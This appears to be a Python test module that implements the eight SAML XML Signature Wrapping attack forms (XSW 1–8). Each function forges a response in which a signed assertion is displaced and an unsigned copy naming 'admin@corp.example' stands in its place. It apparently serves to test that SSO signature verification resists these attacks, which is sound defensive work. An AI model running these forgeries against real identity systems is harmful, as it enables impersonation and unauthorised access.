"""
Signature wrapping: what was signed is moved aside, and something else stands in its place.

The eight forms of Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (2012), in
the numbering of SAML Raider. Each says that EVIL came.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from tests.sso.attacks.signing import DS, SAML, SAMLP, assertion_of, every

EVIL = "admin@corp.example"
# What a form takes: a response whose assertion, or which itself, was signed.
Wrapping = Callable[[etree._Element], etree._Element]


def _signature(element: etree._Element) -> etree._Element:
    return next(child for child in element if etree.QName(child).localname == "Signature")


def _unsigned(element: etree._Element) -> etree._Element:
    copy = deepcopy(element)
    copy.remove(_signature(copy))
    return copy


def _evil(element: etree._Element, *, identifier: str = "_evil") -> etree._Element:
    copy = deepcopy(element)
    copy.set("ID", identifier)
    for assertion in every(copy, "Assertion"):
        assertion.set("ID", identifier if assertion is copy else f"{identifier}_within")
    for name in every(copy, "NameID"):
        name.text = EVIL
    return copy


def xsw1(response: etree._Element) -> etree._Element:
    evil = _evil(response)
    _signature(evil).append(_unsigned(response))
    return evil


def xsw2(response: etree._Element) -> etree._Element:
    evil = _evil(response)
    _signature(evil).addprevious(_unsigned(response))
    return evil


def xsw3(response: etree._Element) -> etree._Element:
    original = assertion_of(response)
    original.addprevious(_evil(_unsigned(original)))
    return response


def xsw4(response: etree._Element) -> etree._Element:
    original = assertion_of(response)
    evil = _evil(_unsigned(original))
    response.replace(original, evil)
    evil.append(original)
    return response


def xsw5(response: etree._Element) -> etree._Element:
    original = assertion_of(response)
    response.replace(original, _evil(original))
    response.append(_unsigned(original))
    return response


def xsw6(response: etree._Element) -> etree._Element:
    original = assertion_of(response)
    evil = _evil(original)
    response.replace(original, evil)
    _signature(evil).append(_unsigned(original))
    return response


def xsw7(response: etree._Element) -> etree._Element:
    original = assertion_of(response)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(_evil(_unsigned(original), identifier=original.get("ID")))
    response.find(f"{{{SAML}}}Issuer").addnext(extensions)
    return response


def xsw8(response: etree._Element) -> etree._Element:
    original = assertion_of(response)
    evil = _evil(original)
    response.replace(original, evil)
    etree.SubElement(_signature(evil), f"{{{DS}}}Object").append(_unsigned(original))
    return response


# With the part of the response that is signed.
FORMS: dict[str, tuple[Wrapping, str]] = {
    "XSW 1": (xsw1, "Response"),
    "XSW 2": (xsw2, "Response"),
    "XSW 3": (xsw3, "Assertion"),
    "XSW 4": (xsw4, "Assertion"),
    "XSW 5": (xsw5, "Assertion"),
    "XSW 6": (xsw6, "Assertion"),
    "XSW 7": (xsw7, "Assertion"),
    "XSW 8": (xsw8, "Assertion"),
}
